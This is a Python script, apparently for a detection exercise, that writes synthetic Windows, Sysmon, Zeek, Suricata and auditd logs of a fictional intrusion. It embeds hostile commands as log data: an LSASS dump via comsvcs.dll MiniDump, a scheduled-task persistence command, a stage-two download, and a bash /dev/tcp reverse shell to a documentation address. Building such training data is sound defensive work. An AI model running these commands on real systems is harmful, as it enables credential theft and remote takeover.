"""The exercise: an intrusion that never was, on hosts of example.test. `python make.py` writes logs/ anew.

Windows and Sysmon JSON lines, audit records, Zeek and Suricata JSON: a day of routine, and in it failed logons and then
one that works, an encoded PowerShell, a dump of LSASS, a task for persistence, a tunnel in DNS, a Linux host where a
reverse shell is opened. All names, addresses (RFC 5737) and identifiers are made up.
"""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent / "logs"
DAY = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
SYSMON = "Microsoft-Windows-Sysmon/Operational"
HOSTS = [f"ws{number:02d}.example.test" for number in range(1, 9)]
ROUTINE = [
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\services.exe"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\userinit.exe"),
    ("C:\\Program Files\\Office\\winword.exe", "winword.exe /n report.docx", "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir", "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "backgroundTaskHost.exe", "C:\\Windows\\System32\\svchost.exe"),
]


def at(minutes: float) -> str:
    """An instant of the day."""
    return (DAY + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def windows(record: int, minutes: float, host: str, channel: str, event: int, data: dict[str, Any]) -> dict[str, Any]:
    """An event as EVTX readers write it."""
    provider = "Microsoft-Windows-Sysmon" if channel == SYSMON else "Microsoft-Windows-Security-Auditing"
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": event,
        "TimeCreated": {"#attributes": {"SystemTime": at(minutes)}},
        "EventRecordID": record,
        "Channel": channel,
        "Computer": host,
    }
    return {"Event": {"System": system, "EventData": data}}


def started(image: str, line: str, parent: str, user: str) -> dict[str, Any]:
    """A process, as Sysmon's event 1 tells of it."""
    name = image.rsplit("\\", 1)[-1]
    told = {"Image": image, "OriginalFileName": name, "CommandLine": line, "ParentImage": parent, "User": user}
    return {**told, "ProcessId": 4000, "IntegrityLevel": "Medium", "Hashes": "SHA256=" + "0" * 64}


def desktops(drawn: random.Random) -> list[dict[str, Any]]:
    """Routine on eight hosts, and the intrusion on one."""
    found: list[tuple[float, str, str, int, dict[str, Any]]] = []
    for host in HOSTS:
        user = f"EXAMPLE\\user{host[2:4]}"
        for _ in range(40):
            image, line, parent = drawn.choice(ROUTINE)
            found.append((drawn.uniform(0, 540), host, SYSMON, 1, started(image, line, parent, user)))
        logon = {"TargetUserName": f"user{host[2:4]}", "IpAddress": "192.0.2.9", "LogonType": 2}
        found.append((drawn.uniform(0, 30), host, "Security", 4624, logon))
    host, user, shell = HOSTS[2], "EXAMPLE\\user03", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    failed = {"TargetUserName": "user03", "IpAddress": "198.51.100.23", "LogonType": 10, "Status": "0xc000006d"}
    found += [(200 + number / 10, host, "Security", 4625, failed) for number in range(12)]
    found.append((202, host, "Security", 4624, {**failed, "Status": "0x0"}))
    word = "C:\\Program Files\\Office\\winword.exe"
    found.append((205, host, SYSMON, 1, started(shell, "powershell.exe -nop -w hidden -enc SQBFAFgA", word, user)))
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full"
    found.append((211, host, SYSMON, 1, started("C:\\Windows\\System32\\rundll32.exe", dump, shell, user)))
    task = 'schtasks.exe /create /tn Updater /tr "C:\\Users\\Public\\u.exe" /sc onlogon'
    found.append((214, host, SYSMON, 1, started("C:\\Windows\\System32\\schtasks.exe", task, shell, user)))
    reach = {"Image": shell, "DestinationIp": "203.0.113.77", "DestinationPort": 8443, "Initiated": True, "User": user}
    found.append((206, host, SYSMON, 3, reach))
    found.sort(key=lambda one: (one[0], one[1]))
    return [windows(number, *one) for number, one in enumerate(found, 1)]


def network(drawn: random.Random) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Zeek's dns and Suricata's eve: routine names, and a tunnel of long ones."""
    zeek, eve = [], []
    for number in range(200):
        name = drawn.choice(["www.example.test", "mail.example.test", "time.example.test"])
        stamp = (DAY + timedelta(minutes=drawn.uniform(0, 540))).timestamp()
        host = f"192.0.2.{10 + number % 8}"
        zeek.append({"_path": "dns", "ts": round(stamp, 3), "uid": f"C{number:06d}", "id.orig_h": host, "query": name})
    for number in range(30):
        label = "".join(drawn.choice("abcdef0123456789") for _ in range(48))
        stamp = (DAY + timedelta(minutes=220 + number / 6)).timestamp()
        query = f"{label}.t.tunnel.example"
        zeek.append(
            {"_path": "dns", "ts": round(stamp, 3), "uid": f"T{number:06d}", "id.orig_h": "192.0.2.12", "query": query}
        )
    http = {
        "hostname": "203.0.113.77",
        "url": "/stage2.ps1",
        "http_method": "GET",
        "http_user_agent": "WindowsPowerShell",
    }
    told = {"src_ip": "192.0.2.12", "dest_ip": "203.0.113.77", "dest_port": 80, "proto": "TCP"}
    eve.append({"timestamp": at(205.5), "event_type": "http", **told, "http": http})
    for number in range(60):
        calm = {
            "hostname": "www.example.test",
            "url": f"/{number}",
            "http_method": "GET",
            "http_user_agent": "Mozilla/5.0",
        }
        eve.append({"timestamp": at(number * 9), "event_type": "http", **told, "dest_ip": "192.0.2.80", "http": calm})
    zeek.sort(key=lambda one: float(one["ts"]))
    return zeek, sorted(eve, key=lambda one: str(one["timestamp"]))


def server() -> list[str]:
    """audit.log of a Linux host."""
    lines = []
    for number in range(40):
        lines += audited(number * 13, 500 + number, "/usr/bin/ls", ["ls", "-l", "/srv"])
    return lines + audited(230, 900, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"])


def audited(minutes: float, serial: int, exe: str, arguments: list[str]) -> list[str]:
    """Two records of one event; what holds a space is in hexadecimal, as auditd has it."""
    stamp = f"msg=audit({(DAY + timedelta(minutes=minutes)).timestamp():.3f}:{serial}):"
    told = [f"a{n}={json.dumps(a) if a.isalnum() else a.encode().hex().upper()}" for n, a in enumerate(arguments)]
    call = f'arch=c000003e syscall=59 success=yes ppid=1 pid={serial} auid=1001 uid=1001 exe="{exe}" key="exec"'
    return [
        f"node=srv01.example.test type=SYSCALL {stamp} {call}",
        f"node=srv01.example.test type=EXECVE {stamp} argc={len(arguments)} {' '.join(told)}",
    ]


def main() -> None:
    """Write the logs; the same bytes each time."""
    drawn = random.Random(7)  # noqa: S311 - an exercise, no secret
    HERE.mkdir(exist_ok=True)
    zeek, eve = network(drawn)
    for name, rows in (("windows.jsonl", desktops(drawn)), ("dns.log", zeek), ("eve.json", eve)):
        (HERE / name).write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    (HERE / "audit.log").write_text("\n".join(server()) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
